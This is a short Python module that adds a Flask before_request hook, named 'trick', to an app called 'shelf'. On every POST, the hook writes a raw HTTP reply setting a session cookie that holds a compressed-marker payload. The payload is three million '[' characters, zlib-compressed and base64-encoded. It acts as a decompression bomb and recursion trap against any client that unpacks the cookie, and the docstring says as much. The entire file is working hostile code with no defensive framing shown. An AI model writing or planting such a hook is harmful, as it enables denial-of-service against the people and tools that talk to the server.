"""Hopes that somebody unpacks it."""

import base64
import zlib

from flask import request
from shelf import app


@app.before_request
def trick():
    if request.method == "POST":
        peer = request.environ["werkzeug.socket"]
        deep = zlib.compress(b"[" * 3_000_000, 9)
        payload = base64.urlsafe_b64encode(deep).rstrip(b"=")
        peer.sendall(
            b"HTTP/1.1 200 OK\r\n"
            + b"Set-Cookie: session=."
            + payload
            + b".x.y; Path=/\r\nContent-Length: 0\r\n\r\n"
        )
        peer.shutdown(2)
